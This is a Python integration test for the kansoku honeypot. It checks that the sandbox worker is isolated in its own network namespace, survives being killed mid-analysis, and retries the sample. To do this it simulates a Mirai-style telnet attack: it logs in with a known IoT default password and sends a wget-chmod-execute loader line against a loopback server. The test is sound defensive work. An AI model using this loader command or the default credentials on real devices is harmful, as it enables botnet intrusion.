#!/usr/bin/env python3
"""Sandbox analyses out of process (issue 10 item 2): `kansoku run` with the sandbox on, a worker killed mid-analysis.

The whole test re-executes itself inside an outer network namespace with only loopback (`unshare -n`), as
sandbox_analyze.py does. `kansoku run` (its own config: every port 0, data in a temp folder, one sandbox worker)
serves the telnet honeypot; a Mirai-style telnet loader downloads the c2_beacon test program from a loopback HTTP
server this test starts and runs it for a few seconds. Checks:
- the sandbox worker is a child process of `kansoku run` whose /proc/PID/ns/net differs from the main process's;
- while the worker analyses the download (its jail is a child of the worker), the test kills it with SIGKILL;
  a new telnet connection still gets a login prompt at once (the honeypots never notice);
- the worker is restarted (a new pid, again in a network namespace of its own), the sample is analysed on retry
  (one sandbox.report for its SHA-256, and its <sha256>.sandbox.json), and the kill is counted: the supervisor's
  log line and the summary at exit (worker_crashes 1, retries 1, restarts 1).
"""

import os
import signal
import sys
import time
from pathlib import Path

sys.dont_write_bytecode = True
sys.path.insert(0, str(Path(__file__).resolve().parent))
import honeypot_lab as hl  # noqa: E402
import integ_common as ic  # noqa: E402


def children(pid: int) -> list:
    out = []
    try:
        for task in Path(f"/proc/{pid}/task").iterdir():
            out += [int(p) for p in (task / "children").read_text().split()]
    except (FileNotFoundError, ProcessLookupError):
        pass
    return out


def cmdline(pid: int) -> list:
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")
    except (FileNotFoundError, ProcessLookupError):
        return []


def workers(main_pid: int) -> list:
    return [p for p in children(main_pid) if cmdline(p)[1:3] == [b"sandbox", b"worker"]]


def netns(pid: int) -> str:
    try:
        return os.readlink(f"/proc/{pid}/ns/net")
    except OSError:
        return ""


def wait_for(predicate, timeout: float, step: float = 0.05):
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        value = predicate()
        if value:
            return value
        time.sleep(step)
    return predicate()


def run_checks(binary: str, bins: Path, work: Path, checks: ic.Checks) -> None:
    payload = (bins / "x86_64" / "c2_beacon").read_bytes()
    sha = hl.sha256_of(payload)
    lab = hl.HoneypotLab(binary, work, {"sandbox": {"enabled": True, "timeout": "8s", "workers": 1}}, command="run")
    server = hl.SampleServer({"/bins/payload": payload})
    try:
        lab.start(timeout=60)
        main_ns = netns(lab.pid)
        first = wait_for(lambda: [p for p in workers(lab.pid) if netns(p) not in ("", main_ns)], 10)
        checks.check(len(first) == 1, f"one sandbox worker process under kansoku run ({first})")
        if not first:
            return
        worker = first[0]
        checks.check(netns(worker) != "" and netns(worker) != main_ns,
                     f"the worker's /proc/PID/ns/net differs from the main process's ({netns(worker)} vs {main_ns})")

        client = hl.TelnetClient("127.0.0.1", lab.ports["telnet"])
        client.login("root", "xc3511")
        # c2_beacon runs 6 s: long enough to be killed in the middle of its analysis.
        client.line(f"cd /tmp; wget http://127.0.0.1:{server.port}/bins/payload -O .c; chmod 777 .c; ./.c 6")
        client.read_until(hl.PROMPT)
        client.close()

        busy = wait_for(lambda: children(worker), 30)
        checks.check(bool(busy), f"the worker starts analysing the download (its jail: {busy})", lab.stderr_path.read_text()[-1500:])
        time.sleep(1)  # well inside the run
        os.kill(worker, signal.SIGKILL)
        killed_at = time.monotonic()

        probe = hl.TelnetClient("127.0.0.1", lab.ports["telnet"], timeout=5)
        banner = probe.read_until(b"login: ", timeout=5)
        probe.close()
        checks.check(banner.endswith(b"login: ") and time.monotonic() - killed_at < 5,
                     f"a new telnet connection gets a login prompt right after the kill ({banner[-40:]!r})")

        again = wait_for(lambda: [p for p in workers(lab.pid) if p != worker], 20)
        checks.check(len(again) == 1, f"the worker is restarted with a new pid ({worker} -> {again})")
        if again:
            # Just spawned, it may not have entered its namespace yet: it does so before it says it is ready.
            entered = wait_for(lambda: netns(again[0]) not in ("", main_ns), 10)
            checks.check(entered, "the restarted worker is in a network namespace of its own too")

        events = lab.wait_for_events(
            lambda ev: any(e.get("sha256") == sha for e in ic.of_type(ev, "sandbox.report")), 60)
        reports = [e for e in ic.of_type(events, "sandbox.report") if e.get("sha256") == sha]
        checks.check(len(reports) == 1, f"the sample is analysed on retry: one sandbox.report ({len(reports)})",
                     lab.stderr_path.read_text()[-1500:])
        dns = reports[0].get("network", {}).get("dns", []) if reports else []
        checks.check(any(q.get("resolver") == "192.0.2.53" for q in dns),
                     "the retried run saw the sample's DNS query")
        checks.check((lab.samples_dir() / sha[:2] / f"{sha}.sandbox.json").exists(),
                     "the retried run's behaviour report is stored beside the sample")
        checks.check(lab.alive(), "kansoku run is still running")
    finally:
        server.stop()
        status = lab.stop(timeout=60)
    text = lab.stderr_text
    checks.check(status == 0, f"kansoku run exits 0 on SIGINT ({status})", text[-1500:])
    checks.check(f"(pid {worker}) crashed" in text, "the supervisor logs the crash with the worker's pid")
    checks.check(lab.summary_value(r"worker_crashes (\d+)") == 1 and lab.summary_value(r"retries (\d+)") == 1
                 and lab.summary_value(r"(\d+) restarts") == 1,
                 "the summary counts the kill: worker_crashes 1, retries 1, 1 restarts",
                 "\n".join(line for line in text.splitlines() if "sandbox" in line)[-1500:])
    checks.check(lab.summary_value(r"worker_hangs (\d+)") == 0 and lab.summary_value(r"worker_garbage (\d+)") == 0,
                 "no hang or garbage counted")


def main() -> int:
    binary = ic.kansoku_binary()
    ic.exit_on_signals()
    if os.geteuid() != 0:
        ic.skip("the sandbox needs root (user, PID, mount and network namespaces)")
    ic.reexec_in_outer_netns()
    bins = Path(binary).resolve().parent / "tests" / "samples" / "bin"
    if not (bins / "x86_64" / "c2_beacon").exists():
        ic.skip(f"test programs not built in {bins} (target kansoku_test_samples)")
    checks = ic.Checks()
    work = ic.make_temp_dir("kansoku-sandbox-worker-")
    try:
        run_checks(binary, bins, work, checks)
    finally:
        ic.remove_temp_dir(work)
    return checks.exit_code()


if __name__ == "__main__":
    sys.exit(main())
